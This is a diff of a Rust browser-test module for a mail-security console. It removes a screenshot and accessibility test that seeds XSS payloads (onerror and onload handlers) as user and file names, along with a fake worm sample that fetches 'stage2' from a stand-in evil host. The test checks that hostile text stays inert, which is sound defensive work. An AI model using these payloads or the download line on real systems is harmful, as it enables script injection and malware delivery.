@@ -1,8 +1,9 @@
-//! The console in a real browser: the main jobs, hostile texts that must stay text, and pictures of every page.
+//! The console in a real browser: the main jobs, and hostile texts that must stay text. Pictures of every page are in `pages.rs`.
 
 mod accessible;
 pub(crate) mod browser;
 mod crowded;
+mod pages;
 mod schema;
 mod through_gate;
 pub(crate) mod visitor;
@@ -411,122 +412,4 @@ fn limits_are_tuned_in_a_browser() {
     browser.picture(&album().join("feeds-proposal-light.png"));
     browser.find("form[action='/feeds/tune'] button").click();
     browser.says("The limits are now");
-}
-
-#[test]
-fn every_page_is_pictured_in_the_light_the_dark_and_on_a_telephone() {
-    let plugins = plugins();
-    let site = Site::new(&format!("{INBOUND}[lab]\nplugins = {:?}\n", plugins.path()));
-    let up = site.up_with(&["--demo"]);
-    let quiet = Browser::start();
-    let console = format!("http://{}", up.listener("console"));
-    quiet.goto(&console);
-    quiet.looks(1280, false);
-    quiet.picture(&album().join("login-light.png"));
-    drop(quiet);
-    let (browser, console) = logged_in(&up, "admin", &up.admin_password());
-    browser.says("Nothing needs you");
-    browser.picture(&album().join("overview-quiet-light.png"));
-    for name in ["ann@example.org", "bob@example.org", "<img/src=x/onerror=window.ran=40>"] {
-        site.weir(&["user", "add", name, "--address", "x@localhost", "--generate"]).ok();
-    }
-    outbreak(&up);
-    attacks_by_mail(&site, &up);
-    let sample = site.home().join("invoice.sh");
-    std::fs::write(&sample, "#!/bin/sh\necho hello\n").expect("a sample");
-    let worm = site.home().join("<svg onload=window.ran=50>.sh");
-    std::fs::write(&worm, "#!/bin/sh\n# a worm\nwget http://drop.evil.example/stage2\n").expect("a sample");
-    let samples = [sample.as_path(), Path::new("/bin/true"), &worm].map(|file| file.to_str().expect("text"));
-    site.weir(&[&["lab", "submit"], &samples[..]].concat()).ok();
-    wait_for("the reports", || {
-        let list = site.json(&["lab", "list"]);
-        list.as_array()?.iter().all(|sample| !sample["ended_at"].is_null()).then_some(())
-    });
-    site.weir(&["scan", "rules", "add", "--sample", "3"]).ok();
-    // The stream keeps the page current without loading it again.
-    browser.goto(&console);
-    assert!(!browser.text().contains("wait for the web servers"));
-    browser.run("window.loaded = 'once'");
-    browser.run("window.other = window.open('/web', 'other')");
-    wait_for("the page of the web gate", || {
-        let text = browser.run("return window.other.document.body ? window.other.document.body.innerText : ''");
-        text.as_str()?.contains("No session has a request now").then_some(())
-    });
-    browser.run("window.other.loaded = 'once'");
-    let flood = Flood::new(&up.listener("web"));
-    browser.says("wait for the web servers, in fair order");
-    assert_eq!(browser.run("return window.loaded"), "once");
-    // So do all pages, and no part of one says something else than another.
-    wait_for("the flood on the page that was open before it", || {
-        let text = browser.run("return window.other.document.body.innerText");
-        let text = text.as_str()?;
-        (text.contains("Sessions that ask now") && text.contains("Each session gets its share")).then_some(())
-    });
-    assert_eq!(browser.run("return window.other.loaded"), "once");
-    browser.run("window.other.close()");
-    let held = site.json(&["held", "list"]);
-    let quarantined = site.json(&["quarantine", "list"]);
-    let pages = [
-        ("overview", "/".to_owned()),
-        ("incidents", "/incidents".to_owned()),
-        ("incident", "/incidents/1".to_owned()),
-        ("throttle", "/throttle".to_owned()),
-        ("user", "/throttle/users/demo".to_owned()),
-        ("held", format!("/throttle/held/{}", held["messages"][3]["message"].as_str().expect("an id"))),
-        ("quarantine", "/quarantine".to_owned()),
-        ("quarantined", format!("/quarantine/{}", quarantined["entries"][2]["message"].as_str().expect("an id"))),
-        ("feeds", "/feeds".to_owned()),
-        ("web", "/web".to_owned()),
-        ("queue", "/queue".to_owned()),
-        ("bans", "/bans".to_owned()),
-        ("lab", "/lab".to_owned()),
-        ("sample", "/lab/samples/1".to_owned()),
-        ("sample-program", "/lab/samples/2".to_owned()),
-        ("sample-malware", "/lab/samples/3".to_owned()),
-        ("rules", "/rules".to_owned()),
-        ("search", "/search?q=demo".to_owned()),
-        ("audit", "/audit".to_owned()),
-        ("settings", "/settings".to_owned()),
-        ("account", "/account".to_owned()),
-        ("nowhere", "/nowhere".to_owned()),
-    ];
-    let mut barriers = Vec::new();
-    for (name, path) in &pages {
-        for (look, width, dark) in
-            [("light", 1440, false), ("dark", 1440, true), ("narrow", 390, false), ("narrow-dark", 360, true)]
-        {
-            browser.looks(width, dark);
-            browser.goto(&format!("{console}{path}"));
-            nothing_ran(&browser);
-            browser.picture(&album().join(format!("{name}-{look}.png")));
-            let wide =
-                browser.run("return document.documentElement.scrollWidth - document.documentElement.clientWidth");
-            assert_eq!(wide, 0, "{name} is wider than {width} pixels");
-            if accessible::is_due(look) {
-                let found = accessible::barriers(&browser);
-                barriers.extend(found.into_iter().map(|barrier| format!("{name}, {look}: {barrier}")));
-            }
-        }
-    }
-    flood.stop();
-    assert!(barriers.is_empty(), "axe-core finds barriers:\n{}", barriers.join("\n"));
-    // A user of the mail gate sees what is theirs, and nothing else.
-    let (own, _) = logged_in(&up, "demo", &up.password());
-    own.says("Your mail");
-    own.looks(1280, false);
-    own.picture(&album().join("mine-light.png"));
-    nothing_ran(&own);
-    own.goto(&format!("{console}/throttle"));
-    own.says("This is not for the role user");
-    drop(own);
-    // Without Weir the page says so.
-    browser.looks(1280, false);
-    browser.goto(&console);
-    browser.find("#offline");
-    up.kill();
-    wait_for("the bar", || {
-        let hidden = browser.run("return document.getElementById('offline').hidden");
-        (hidden == false).then_some(())
-    });
-    browser.picture(&album().join("offline-light.png"));
 }
